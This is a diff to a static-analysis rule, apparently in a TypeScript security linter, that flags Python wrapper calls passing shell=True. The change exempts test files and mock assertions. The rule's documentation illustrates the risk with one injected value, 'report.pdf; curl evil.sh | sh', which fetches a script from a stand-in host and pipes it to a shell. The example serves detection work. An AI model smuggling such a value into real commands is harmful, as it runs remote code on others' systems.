@@ -1,6 +1,6 @@
 import { defineRule } from '../../engine/rule';
 import { isBuiltinCall } from '../../engine/scope';
-import { argument, callArgs, unparen } from '../../engine/syntax';
+import { argument, callArgs, calleeTail, unparen } from '../../engine/syntax';
 import { ALWAYS_SHELL_FUNCTIONS, analyseCommand, describeSources, SUBPROCESS_FUNCTIONS } from '../util/process';
 
 /** Calls SEC602/SEC605 already judge, or whose `shell=` is not about running a command. */
@@ -20,6 +20,7 @@ export default defineRule({
   aliases: ['B604', 'S604'],
   tags: ['injection', 'subprocess'],
   nodeTypes: ['call'],
+  appliesTo: (file) => !file.isTest,
   check(call, ctx) {
     const args = callArgs(call);
     const shell = args.keywords.get('shell');
@@ -30,6 +31,8 @@ export default defineRule({
     if (value.type !== 'true' && !(value.type === 'integer' && /[1-9]/.test(value.text))) return;
     const name = ctx.callName(call);
     if (handledElsewhere(name) || isBuiltinCall(call, 'dict', ctx)) return;
+    // Expectations about a call, not a call: `mock_run.assert_called_with(cmd, shell=True)`, `mock.call(...)`.
+    if (/^assert_/.test(calleeTail(call) ?? '') || name === 'unittest.mock.call' || name === 'mock.call') return;
     const fn = call.childForFieldName('function') ?? call;
     const label = `\`${name ?? ctx.textOf(fn).replace(/\s+/g, '')}()\``;
     // `functools.partial(subprocess.run, shell=True)` binds the shell for every later call.
@@ -57,7 +60,7 @@ export default defineRule({
     });
   },
   docs: {
-    what: `Finds calls with a literal \`shell=True\` (or \`shell=1\`) to any function other than the \`subprocess\`, \`os\` and \`asyncio\` process functions (which SEC602 and SEC605 check): in-house wrappers such as \`run(cmd, shell=True)\` or \`utils.execute(cmd, shell=True)\`, and \`functools.partial(subprocess.run, shell=True)\`. A command built at run time is a warning; a constant command, or one whose interpolated values all go through \`shlex.quote\` or a number conversion, is information with low confidence. \`shell="/bin/bash"\` (invoke and fabric name the shell they always use that way), \`shell=flag\` and \`dict(shell=True)\` are not reported.`,
+    what: `Finds calls with a literal \`shell=True\` (or \`shell=1\`) to any function other than the \`subprocess\`, \`os\` and \`asyncio\` process functions (which SEC602 and SEC605 check): in-house wrappers such as \`run(cmd, shell=True)\` or \`utils.execute(cmd, shell=True)\`, and \`functools.partial(subprocess.run, shell=True)\`. A command built at run time is a warning; a constant command, or one whose interpolated values all go through \`shlex.quote\` or a number conversion, is information with low confidence. \`shell="/bin/bash"\` (invoke and fabric name the shell they always use that way), \`shell=flag\`, \`dict(shell=True)\`, mock expectations (\`assert_called_with(..., shell=True)\`, \`mock.call(...)\`) and test files are not reported.`,
     why: `A parameter called \`shell\` almost always ends up as \`subprocess.Popen(..., shell=shell)\`: the wrapper runs its first argument as a shell script. A value such as \`report.pdf; curl evil.sh | sh\` interpolated into the command runs extra commands with the process's privileges, and because the \`subprocess\` call is hidden in the wrapper, the checks for \`subprocess\` itself do not see it.`,
     example: `from ops.shell import execute
 
